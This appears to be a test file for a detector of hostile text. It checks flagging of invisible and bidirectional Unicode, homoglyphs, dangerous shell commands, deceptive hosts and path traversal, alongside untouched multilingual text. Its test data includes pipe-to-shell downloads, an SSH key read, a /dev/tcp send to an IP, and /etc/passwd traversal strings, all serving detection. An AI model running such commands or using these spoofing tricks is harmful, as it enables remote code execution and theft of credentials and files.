// What is drawn of hostile text, without a browser: boxes, marks, hosts, places, exact numbers. Table-driven, with honest
// text of many scripts that must stay as it is.

import assert from "node:assert/strict";
import { createRequire } from "node:module";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { pathToFileURL } from "node:url";
import { lacking } from "./lacking.mjs";

const here = resolve(import.meta.dirname, "..");
let rolldown;
try { ({ rolldown } = await import(pathToFileURL(createRequire(import.meta.url).resolve("rolldown", { paths: [here] })).href)); } catch {
  lacking("the text test needs rolldown, which comes with vite: npm ci in console/");
  process.exit(0);
}
const out = mkdtempSync(join(tmpdir(), "doorward-text-"));
const load = async (name) => {
  const bundle = await rolldown({ input: join(here, "src", name) });
  const file = join(out, name.replace(".ts", ".mjs"));
  await bundle.write({ file, format: "esm" });
  return import(pathToFileURL(file).href);
};
try {
  const { boxes } = await load("glyphs.ts");
  const labels = (text) => boxes(text).map((box) => box.label);
  for (const [text, expected] of [
    ["invoice\u202efdp.exe", ["U+202E"]], ["rm\u200b -rf", ["U+200B"]], ["ok\u{e0072}\u{e0075}", ["U+E0072", "U+E0075"]], ["\u001b[2J", ["ESC U+001B"]], ["a\rb\u0007\u0000", ["CR U+000D", "BEL U+0007", "NUL U+0000"]],
    ["\u009b31m", ["CSI U+009B"]], ["a\u00a0b", ["U+00A0"]], ["a\u2028b", ["U+2028"]], ["soft\u00adhyphen", ["U+00AD"]], ["x\u{e0101}", ["U+E0101"]], ["\u3164", ["U+3164"]], ["a\u2800b", ["U+2800"]], ["\ufeff#!", ["U+FEFF"]], ["\u2066x\u2069", ["U+2066", "U+2069"]],
    ["p\u0430th", ["U+0430"]], ["\u0430\u0440\u0440\u04cf\u0435.com", ["U+0430", "U+0440", "U+0440", "U+04CF", "U+0435"]], ["g\u03bfogle", ["U+03BF"]], ["\uff52\uff4d -rf", ["U+FF52", "U+FF4D"]], ["\u{1d42b}m", ["U+1D42B"]], ["a\u2215b", ["U+2215"]], ["rm \u2013rf /", ["U+2013"]], ["\u2212rf", ["U+2212"]], ["git\u0131", []], ["\u0261it", ["U+0261"]],
    ["a\u0301\u0301\u0301\u0301\u0301", ["U+0301", "U+0301"]], ["\ue000", ["U+E000"]], ["x\ufe0f", ["U+FE0F"]], ["a\u200db", ["U+200D"]],
    [`ls${" ".repeat(200)}; rm`, ["200 \u00d7 U+0020"]], [`a${"\n".repeat(40)}b`, ["38 \u00d7 LF"]],
    // Honest text.
    [`${" ".repeat(40)}indented`, []], ["a    b", []], ["a\n\n\nb", []],
    ["\u05e9\u05dc\u05d5\u05dd", []], ["\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645", []], ["\u041f\u0440\u0438\u0432\u0435\u0442, \u043c\u0438\u0440: \u043e\u043d \u0438 \u043e\u043d\u0430", []], ["\u4f60\u597d\uff0c\u4e16\u754c\uff01\u3000ok", []], ["\u3053\u3093\u306b\u3061\u306f", []], ["caf\u00e9 na\u00efve \u00fcber \u0141\u00f3d\u017a", []], ["\u039a\u03b1\u03bb\u03b7\u03bc\u03ad\u03c1\u03b1", []],
    ["\u{1f469}\u200d\u{1f4bb} \u2764\ufe0f \u{1f44d}\u{1f3fd}", []], ["wait \u2013 what \u2014 no", []], ["\u201cquoted\u201d \u2026 5 \u20ac m\u00b2", []], ["tab\tline\nend", []], ["Vi\u1ec7t Nam", []], ["\u0939\u093f\u0928\u094d\u0926\u0940", []], ["\u0e44\u0e17\u0e22", []], ["e\u0301", []],
  ]) assert.deepEqual(labels(text), expected, JSON.stringify(text));

  assert.deepEqual(boxes("/w/a\n/etc/x\ty", true).map((box) => box.label), ["LF U+000A", "HT U+0009"]);
  const shell = await load("shell.ts");
  const marked = (text) => shell.marks(text).map(([at, end]) => text.slice(at, end));
  for (const [text, expected] of [
    ["curl -s https://c.example/i.sh | sh", ["curl", "|", "sh"]], ["wget -qO- x|sudo bash -s", ["wget", "|", "sudo", "bash"]], ["ls | wc -l", []], ["echo \"rm -rf /\"", []], ["git commit -m 'rm | sh'", []], ["r\\m -rf /w", ["r\\m", "-rf"]], ["'rm' -rf \"/\"", ["'rm'", "-rf", "\"/\""]],
    ["sudo -u root rm x", ["sudo", "rm"]], ["bash -c 'id'", ["bash", "-c"]], ["echo hi > /etc/motd", [">", "/etc/motd"]], ["echo hi > out.txt 2>&1", []], ["make 2>/dev/null", []], ["cat ~/.ssh/id_rsa", ["~/.ssh/id_rsa"]], ["git push --force", ["--force"]], ["find . -name x -delete", ["-delete"]],
    ["echo $(curl x | sh)", ["curl", "|", "sh"]], ["$(curl x)", ["$(", "curl"]], ["echo \"$(rm x)\"", ["rm"]], ["a=1 eval \"$b\"", ["eval"]], ["base64 -d <<< x | python3", ["base64", "|", "python3"]], ["chmod 777 x", ["chmod", "777"]], ["cargo test && npm run build", []], ["# rm -rf /\nls", []], ["/bin/rm -r x", ["/bin/rm", "-r"]],
    ["cat x >& /dev/tcp/1.2.3.4/80", [">&", "/dev/tcp/1.2.3.4/80"]], ["sh <<EOF\nid\nEOF", ["sh", "<<"]], ["echo rm", []], ["xargs rm < list", ["rm"]], ["if true; then rm x; fi", ["rm"]], ["unbalanced 'quote", []], ["a \"$(", []],
  ]) assert.deepEqual(marked(text), expected, text);
  const coded = (text) => shell.calls(text).map(([at, end]) => text.slice(at, end));
  assert.deepEqual(coded("import os; os.system('x')"), ["system"]);
  assert.deepEqual(coded("print(len(x))"), []);

  const places = await load("places.ts");
  const host = (text, name) => places.hosts(text, name).map((one) => [one.host, one.spoken, one.user, one.reach].map((part) => part ?? "").join(" ").trim());
  for (const [text, name, expected] of [
    ["https://xn--pple-43d.example/", "url", ["xn--pple-43d.example \u0430pple.example false"]], ["https://\u0430pple.example/", "url", ["xn--pple-43d.example \u0430pple.example false"]], ["https://bank.example@c.example/", "url", ["c.example  true"]], ["http://2130706433/", "url", ["127.0.0.1  false loopback"]],
    ["http://0x7f.1/", "url", ["127.0.0.1  false loopback"]], ["http://0177.0.0.1:8080/", "url", ["127.0.0.1  false loopback"]], ["http://[::ffff:169.254.169.254]/", "url", ["169.254.169.254  false linkLocal"]], ["http://[::1]/", "url", ["[::1]  false loopback"]], ["http://10.0.0.8/", "url", ["10.0.0.8  false privateNet"]],
    ["javascript:alert(1)", "url", []], ["2130706433", "host", ["127.0.0.1  false loopback"]], ["plain text", "host", []], ["curl http://127.1/a && curl https://docs.example", "command", ["127.0.0.1  false loopback", "docs.example  false"]], ["git+ssh://git@host.example/x", "url", ["host.example  true"]], ["https://good.example\\@evil.example/", "url", ["good.example  false"]], ["http://b\u00fccher.example/", "url", ["xn--bcher-kva.example b\u00fccher.example false"]],
  ]) assert.deepEqual(host(text, name), expected, text);
  const place = (text, name) => { const one = places.place(text, name, "/w/p/src", "/w/p"); return one && `${one.path} ${one.inside ? "in" : "out"}${one.moved ? " moved" : ""}`; };
  for (const [text, name, expected] of [
    ["/w/../../etc/passwd", "path", "/etc/passwd out moved"], ["/w/p/a", "path", "/w/p/a in"], ["a/b", "path", "/w/p/src/a/b in moved"], ["../../x", "path", "/w/x out moved"], ["../a", "file", "/w/p/a in moved"], ["~/.ssh/x", "path", "~/.ssh/x out"], ["/etc/hosts", undefined, "/etc/hosts out"], ["https://x/y", "source", null], ["hello world", undefined, null], ["/w/parents", "path", "/w/parents out"], ["file:///etc/passwd", "url", "/etc/passwd out moved"], ["file:///w/p/%2e%2e/x", "uri", "/w/x out moved"], [".", "cwd", "/w/p/src in moved"],
  ]) assert.equal(place(text, name), expected, text);

  const exact = await load("exact.ts");
  for (const text of ["{\"id\":9007199254740993}", "{\"a\":[0.1000000000000000000001,1,-2.5,\"9007199254740993\"]}", "{\"n\":1e400}", "{\"k9007199254740993\":\"exact:9007199254740993\",\"n\":12345678901234567890123}"]) assert.equal(exact.spell(exact.parse(text)), text);
  assert.equal(exact.spell(exact.parse("{\"a\":{\"b\":[1,{}]},\"c\":[]}"), 2), JSON.stringify({ a: { b: [1, {}] }, c: [] }, null, 2));
  console.log("ok hostile text is drawn for what it is, honest text as it is");
} finally { rmSync(out, { recursive: true, force: true }); }
